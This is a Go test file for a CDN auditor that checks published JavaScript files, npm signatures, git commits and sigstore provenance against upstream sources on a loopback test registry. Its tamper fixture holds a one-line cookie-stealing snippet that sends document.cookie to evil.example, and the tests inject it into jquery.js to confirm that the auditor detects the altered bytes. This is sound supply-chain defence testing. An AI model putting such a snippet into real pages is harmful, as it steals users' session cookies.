package audit_test

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/larder-cdn/larder/bot/audit"
	"github.com/larder-cdn/larder/bot/fetch"
	"github.com/larder-cdn/larder/bot/git"
	"github.com/larder-cdn/larder/bot/npm"
	"github.com/larder-cdn/larder/bot/worker"
	"github.com/larder-cdn/larder/internal/testkit"
	"github.com/larder-cdn/larder/internal/testkit/githubtest"
	"github.com/larder-cdn/larder/internal/testkit/gittest"
	"github.com/larder-cdn/larder/internal/testkit/lardertest"
	"github.com/larder-cdn/larder/internal/testkit/npmtest"
	"github.com/larder-cdn/larder/kvstore"
	"github.com/larder-cdn/larder/logs"
	"github.com/larder-cdn/larder/logs/verify"
)

func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == worker.Argument {
		worker.RunChild()
	}
	os.Exit(m.Run())
}

var released = time.Date(2024, 2, 29, 12, 30, 45, 0, time.UTC)

// A rig is an auditor over a registry on loopback.
type rig struct {
	testing.TB
	registry *npmtest.Registry
	client   *npm.Client
	key      *npmtest.Key
	pool     *worker.Pool
	auditor  *audit.Auditor
}

func newRig(t testing.TB) *rig {
	t.Helper()
	r := &rig{TB: t, registry: npmtest.New(t), key: npmtest.NewKey(t)}
	r.registry.Setenv(t)
	r.registry.PublishKeys(r.key)
	config, err := npm.LoadConfig(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	getter, err := fetch.New(fetch.Options{Tries: 1, Allow: []string{"127.0.0.1"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(getter.Close)
	program, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	r.pool = worker.NewPool(worker.Options{Program: program, Size: 2, Timeout: time.Minute})
	t.Cleanup(r.pool.Close)
	attestations, err := npm.NewAttestationVerifier(nil)
	if err != nil {
		t.Fatal(err)
	}
	r.client = npm.NewClient(config, getter, npm.Options{})
	r.auditor = audit.New(audit.Options{
		Npm: r.client, Git: git.New(git.Options{Fetch: getter}), Minifiers: r.pool,
		Provenance: attestations, TempDir: t.TempDir(),
	})
	return r
}

const jquery = "/*! jQuery */\nfunction jQuery(selector) {\n\treturn document.querySelector(selector);\n}\n"

var theft = "fetch('https://evil.example/?'+document.cookie)" // 47 bytes

// add publishes jquery at the registry, and returns what an honest log says of it.
func (r *rig) add(options ...npmtest.Option) verify.Claim {
	r.Helper()
	if len(theft) != 47 {
		r.Fatalf("%d bytes", len(theft))
	}
	r.registry.Add("jquery", "3.7.1", released, map[string]string{
		"package.json": `{"name":"jquery","version":"3.7.1","repository":"jquery/jquery"}`, "dist/jquery.js": jquery, "dist/other.css": "a { color: red }\n", "src/jquery.js": "other",
	}, append([]npmtest.Option{npmtest.Signed(r.key)}, options...)...)
	packument, _, err := r.client.Packument(r.Context(), "jquery", npm.Validators{})
	if err != nil {
		r.Fatal(err)
	}
	v := packument.Versions["3.7.1"]
	signed, err := r.client.Verify(r.Context(), v)
	if err != nil {
		r.Fatal(err)
	}
	minified, err := r.pool.Do(r.Context(), "owner", worker.MinifyJS, []byte(jquery))
	if err != nil {
		r.Fatal(err)
	}
	e := logs.Entry{Kind: logs.Published, Package: "jquery", Version: "3.7.1", Signature: logs.Signature{
		Outcome: logs.SignatureVerified, Key: signed.KeyID, Text: signed.Text, Sig: signed.Sig, PublicKey: signed.PublicKey,
	}, Maker: new(logs.Maker), Provenance: &logs.Provenance{Outcome: logs.AttestationMissing}}
	e.Maker.Program, e.Maker.Version, e.Maker.Options = worker.Minifier()
	m := &logs.Manifest{
		Package: "jquery", Version: "3.7.1", Released: released,
		Source: logs.Source{Type: "npm", Name: "jquery", Integrity: v.Hash(), Signature: e.Signature.WithoutText()},
		Files: []logs.File{
			file("jquery.js", jquery, logs.Upstream, ""), file("jquery.min.js", string(minified), logs.Minified, "jquery.js"), file("other.css", "a { color: red }\n", logs.Upstream, ""),
		},
	}
	return verify.Claim{Entry: e, Manifest: m}
}

func file(path, data, origin, from string) logs.File {
	return logs.File{Path: path, Size: int64(len(data)), SHA256: kvstore.Sum([]byte(data)), SRI: logs.SumSRI([]byte(data)), Origin: origin, From: from}
}

func TestCompare(t *testing.T) {
	tests := []struct {
		name    string
		change  func(*rig, *verify.Claim)
		outcome verify.Outcome
		problem string
		files   int
		made    int
		note    string
	}{
		{"honest", func(*rig, *verify.Claim) {}, verify.Proven, "", 2, 1, ""},
		{"altered bytes", func(_ *rig, c *verify.Claim) {
			c.Manifest.Files[0] = file("jquery.js", jquery+theft, logs.Upstream, "")
		}, verify.Differs, "has other bytes at dist/jquery.js than the log says of jquery.js", 1, 0, ""},
		{"a file that is not there", func(_ *rig, c *verify.Claim) {
			c.Manifest.Files = append(c.Manifest.Files, file("zz.js", theft, logs.Upstream, ""))
		}, verify.Differs, "has no file with the bytes of zz.js", 2, 1, ""},
		{"another file's bytes", func(_ *rig, c *verify.Claim) {
			c.Manifest.Files[2] = file("other.css", jquery, logs.Upstream, "")
		}, verify.Differs, "has other bytes at dist/other.css", 1, 1, ""},
		{"a made file that was altered", func(_ *rig, c *verify.Claim) {
			c.Manifest.Files[1] = file("jquery.min.js", theft, logs.Minified, "jquery.js")
		}, verify.Differs, "jquery.min.js comes out otherwise when it is made again from jquery.js, by esbuild", 2, 0, ""},
		{"made from what is not there", func(_ *rig, c *verify.Claim) {
			c.Manifest.Files[1].From = "gone.js"
		}, verify.Differs, "jquery.min.js is said to be made from gone.js", 2, 0, ""},
		{"made by another version", func(_ *rig, c *verify.Claim) {
			c.Entry.Maker.Version = "0.1.0"
		}, verify.Proven, "", 2, 0, "1 file was not checked, such as jquery.min.js: it was made by esbuild 0.1.0"},
		{"an entry that does not say what made it", func(_ *rig, c *verify.Claim) {
			c.Entry.Maker = nil
		}, verify.Proven, "", 2, 1, ""},
		{"such an entry of another minifier", func(_ *rig, c *verify.Claim) {
			c.Entry.Maker, c.Manifest.Files[1] = nil, file("jquery.min.js", "0", logs.Minified, "jquery.js")
		}, verify.Proven, "", 2, 0, "the entry does not say by which program"},
		{"npm's under another name", func(_ *rig, c *verify.Claim) { c.Entry.Package = "query" }, verify.Proven, "", 2, 1, "what is called query here is npm's jquery"},
		{"an old entry", func(_ *rig, c *verify.Claim) {
			c.Entry.Signature, c.Entry.Provenance = logs.Signature{}, nil
		}, verify.Proven, "", 2, 1, "does not keep the registry's signature: it is older"},
		{"an invented signature", func(_ *rig, c *verify.Claim) {
			c.Entry.Signature.Sig = "MEUCIQ=="
		}, verify.Differs, "the signature that the log keeps", 0, 0, ""},
		{"a signature of another release", func(_ *rig, c *verify.Claim) {
			c.Entry.Signature.Text = strings.Replace(c.Entry.Signature.Text, "3.7.1", "3.7.0", 1)
		}, verify.Differs, "and not of this release", 0, 0, ""},
		{"an invented integrity", func(_ *rig, c *verify.Claim) {
			c.Manifest.Source.Integrity = "sha512-" + strings.Repeat("A", 86) + "=="
			c.Entry.Signature = logs.Signature{Outcome: logs.SignatureVerified, Key: c.Entry.Signature.Key}
		}, verify.Differs, "the registry states sha512-", 0, 0, ""},
		{"changed upstream", func(r *rig, c *verify.Claim) {
			r.registry.Add("jquery", "3.7.1", released, map[string]string{"dist/jquery.js": "now"}, npmtest.Signed(r.key))
		}, verify.Unproven, "the registry has another archive now", 0, 0, ""},
		{"removed upstream", func(r *rig, _ *verify.Claim) { r.registry.Remove("jquery", "3.7.1") }, verify.Unproven, "has no version 3.7.1", 0, 0, ""},
		{"no answer", func(r *rig, _ *verify.Claim) {
			r.registry.Fail(npmtest.Fault{Path: "/jquery", Status: 503})
		}, verify.Unproven, "503", 0, 0, ""},
		{"another tarball", func(r *rig, _ *verify.Claim) {
			r.registry.Fail(npmtest.Fault{Path: "/jquery/-/", Garble: true})
		}, verify.Unproven, "integrity mismatch", 0, 0, ""},
		{"imported", func(_ *rig, c *verify.Claim) { c.Manifest.Source.Type = "import" }, verify.Unproven, "it has no upstream", 0, 0, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newRig(t)
			claim := r.add()
			tt.change(r, &claim)
			got := r.auditor.Compare(t.Context(), claim)
			if got.Outcome != tt.outcome || !strings.Contains(got.Problem, tt.problem) || got.Files != tt.files || got.Made != tt.made {
				t.Errorf("got %+v\nwant %s about %q, %d files, %d made", got, tt.outcome, tt.problem, tt.files, tt.made)
			}
			if !strings.Contains(strings.Join(got.Notes, "\n"), tt.note) {
				t.Errorf("notes %q, want %q", got.Notes, tt.note)
			}
			if tt.name == "honest" {
				if at, err := got.At("jquery.js"); at != "dist/jquery.js" || err != nil {
					t.Errorf("it is at %q, %v", at, err)
				}
				if got.Key != r.key.ID || !strings.HasPrefix(got.Integrity, "sha512-") {
					t.Errorf("got %+v", got)
				}
			}
		})
	}
}

// A log that has npm's own integrity and says that its signature was verified, and other bytes: everything that it says
// of itself is proven, and npm says otherwise.
func TestLyingLog(t *testing.T) {
	r := newRig(t)
	claim := r.add()
	lie := jquery + theft
	claim.Manifest.Files = []logs.File{file("jquery.js", lie, logs.Upstream, "")}
	shelf := testkit.NewShelf(t)
	shelf.Register("jquery", `{"name":"jquery"}`)
	publish(t, shelf, claim, lie)
	cdn := lardertest.Serve(t, shelf, t.TempDir())
	options := verify.Options{Server: cdn.URL, Trust: verify.Trust{Key: cdn.Signer.Key()}}
	name := verify.Name{Package: "jquery", Version: "3.7.1", Path: "jquery.js"}
	check := func() verify.Result {
		l, err := verify.Open(t.Context(), options)
		if err != nil {
			t.Fatal(err)
		}
		return l.VerifyURL(t.Context(), cdn.URL+"/ajax/libs/jquery/3.7.1/jquery.js", name)
	}
	if got := check(); got.Outcome != verify.Proven || got.Upstream != nil {
		t.Fatalf("by the log alone: %+v", got)
	}
	options.Upstream = r.auditor
	if got := check(); got.Outcome != verify.Differs || !strings.Contains(got.Problem, "npm's jquery 3.7.1 has other bytes at dist/jquery.js") {
		t.Errorf("with npm: %+v", got)
	}
}

func TestCompareGit(t *testing.T) {
	r := newRig(t)
	server := gittest.New(t)
	repository := server.Repository(t, "lib")
	commit := repository.Release("v1.0.0", released, gittest.Files{"dist/lib.js": "lib()\n"})
	claim := func() verify.Claim {
		return verify.Claim{Entry: logs.Entry{Kind: logs.Published, Package: "lib", Version: "1.0.0"}, Manifest: &logs.Manifest{
			Package: "lib", Version: "1.0.0", Source: logs.Source{Type: "git", Name: server.URL + "/lib", Tag: "v1.0.0", Commit: commit},
			Files: []logs.File{file("lib.js", "lib()\n", logs.Upstream, "")},
		}}
	}
	if got := r.auditor.Compare(t.Context(), claim()); got.Outcome != verify.Proven || got.Commit != commit || got.Files != 1 {
		t.Errorf("honest: %+v", got)
	}
	lie := claim()
	lie.Manifest.Files[0] = file("lib.js", theft, logs.Upstream, "")
	if got := r.auditor.Compare(t.Context(), lie); got.Outcome != verify.Differs || !strings.Contains(got.Problem, "other bytes at dist/lib.js") {
		t.Errorf("altered: %+v", got)
	}
	lie = claim()
	lie.Manifest.Source.Commit = strings.Repeat("0", 40)
	if got := r.auditor.Compare(t.Context(), lie); got.Outcome != verify.Differs || !strings.Contains(got.Problem, "names the commit "+commit) {
		t.Errorf("another commit: %+v", got)
	}
	repository.Untag("v1.0.0")
	if got := r.auditor.Compare(t.Context(), claim()); got.Outcome != verify.Unproven || !strings.Contains(got.Problem, "no tag v1.0.0") {
		t.Errorf("removed: %+v", got)
	}
}

// TestCompareArchiveOfGitHub holds that a release of version 0.1, whose files came from GitHub's archive, is not accused of differing from the commit.
func TestCompareArchiveOfGitHub(t *testing.T) {
	r := newRig(t)
	hub := githubtest.New("token")
	url, stop := hub.Start()
	t.Cleanup(stop)
	if err := hub.Add("owner/lib", t.TempDir(), "main"); err != nil {
		t.Fatal(err)
	}
	commit := gittest.Use(t, hub.Repository("owner/lib")).Release("v1.0.0", released, gittest.Files{"lib.js": "version = '$Format:%H$'\n"})
	client, err := git.NewGitHubClient(git.GitHubOptions{URL: url, Token: "token"})
	if err != nil {
		t.Fatal(err)
	}
	getter, err := fetch.New(fetch.Options{Tries: 1, Allow: []string{"127.0.0.1"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(getter.Close)
	auditor := audit.New(audit.Options{Npm: r.client, Git: git.New(git.Options{Fetch: getter, GitHub: client}), Minifiers: r.pool, TempDir: t.TempDir()})
	for _, tt := range []struct {
		name, content, tree string
		want                verify.Outcome
	}{
		{"the archive's files", "version = '" + commit + "'\n", "", verify.Unproven},
		{"the commit's files", "version = '$Format:%H$'\n", "", verify.Proven},
		{"other files, by objects", "version = '" + commit + "'\n", strings.Repeat("1", 40), verify.Differs},
	} {
		got := auditor.Compare(t.Context(), verify.Claim{Entry: logs.Entry{Kind: logs.Published, Package: "lib", Version: "1.0.0"}, Manifest: &logs.Manifest{
			Package: "lib", Version: "1.0.0", Source: logs.Source{Type: "git", Name: url + "/owner/lib", Tag: "v1.0.0", Commit: commit, Tree: tt.tree},
			Files: []logs.File{file("lib.js", tt.content, logs.Upstream, "")},
		}})
		if got.Outcome != tt.want {
			t.Errorf("%s: %+v, want %s", tt.name, got, tt.want)
		}
	}
}

func TestProvenance(t *testing.T) {
	read := func(name string) []byte {
		data, err := os.ReadFile("../npm/testdata/" + name)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	const built = "https://github.com/sigstore/sigstore-js"
	tests := []struct {
		name, packageJSON string
		change            func(*verify.Claim)
		outcome           verify.Outcome
		mismatches        int
	}{
		{"right", `{"repository":{"type":"git","url":"git+https://github.com/sigstore/sigstore-js.git"}}`, func(*verify.Claim) {}, verify.Proven, 0},
		{"another repository", `{"repository":"example/other"}`, func(*verify.Claim) {}, verify.Proven, 1},
		{"a lie about the commit", "", func(c *verify.Claim) { c.Entry.Provenance.Commit = strings.Repeat("0", 40) }, verify.Differs, 0},
		{"a lie about the outcome", "", func(c *verify.Claim) { c.Bundle = read("sigstore-2.0.0.json") }, verify.Differs, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newRig(t)
			r.registry.Add("sigstore", "1.3.0", released, nil, npmtest.Tarball(read("sigstore-1.3.0.tgz")))
			packument, _, err := r.client.Packument(t.Context(), "sigstore", npm.Validators{})
			if err != nil {
				t.Fatal(err)
			}
			claim := verify.Claim{
				Entry: logs.Entry{Kind: logs.Published, Package: "sigstore", Version: "1.3.0", Provenance: &logs.Provenance{
					Outcome: logs.AttestationVerified, Repository: built, Commit: "dae8bd8eb433a4147b4655c00fe73e0f22bc0fb1", Workflow: built + "/.github/workflows/release.yml@refs/heads/main",
				}},
				Manifest: &logs.Manifest{Package: "sigstore", Version: "1.3.0", Source: logs.Source{Type: "npm", Name: "sigstore", Integrity: packument.Versions["1.3.0"].Hash()}},
				Bundle:   read("sigstore-1.3.0.json"), PackageJSON: []byte(tt.packageJSON),
			}
			tt.change(&claim)
			got := r.auditor.Compare(t.Context(), claim)
			if got.Outcome != tt.outcome || len(got.Mismatches) != tt.mismatches {
				t.Errorf("got %+v", got)
			}
			if tt.outcome == verify.Proven && (got.Provenance == nil || got.Provenance.Repository != built) {
				t.Errorf("provenance %+v", got.Provenance)
			}
		})
	}
}
